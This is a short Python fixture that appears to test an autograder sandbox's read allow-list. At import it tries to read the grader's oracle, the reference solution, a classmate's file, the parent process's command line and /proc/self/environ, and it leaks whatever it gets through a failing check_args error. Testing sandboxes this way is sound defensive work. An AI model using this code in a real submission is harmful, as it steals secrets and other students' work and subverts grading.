# Hostile twist, appended to the reference tools.py at test time:
# at import the module reads what a submission must never see: the repository's .git,
# the grader's oracle, the reference solution, a classmate's file beside it in a class
# folder, and the grader's own command line (where --seed is). Whatever it manages to
# read it echoes into its feedback, through a failing check_args. Where the sandbox's
# read allow-list holds, every read is refused: nothing is lost and nothing leaks.
import os
from pathlib import Path

import agtool

_repository = Path(agtool.__file__).resolve().parents[1]
_here = Path(__file__).resolve().parent
_targets = [_repository / ".git" / "HEAD", _repository / "grader" / "instructor" / "oracle.py",
            _repository / "agtool" / "tools.py", _here.parent / "alice" / "tools.py",
            Path(f"/proc/{os.getppid()}/cmdline"), Path("/proc/self/environ")]
_leaked = []
for _target in _targets:
    try:
        _leaked.append(f"{_target}: {_target.read_text(errors='replace')[:200]}")
    except OSError:
        pass
try:
    _leaked.append("listing: " + " ".join(os.listdir(_here.parent)))
except OSError:
    pass

if _leaked:
    def check_args(name, args):
        raise RuntimeError(" | ".join(_leaked))
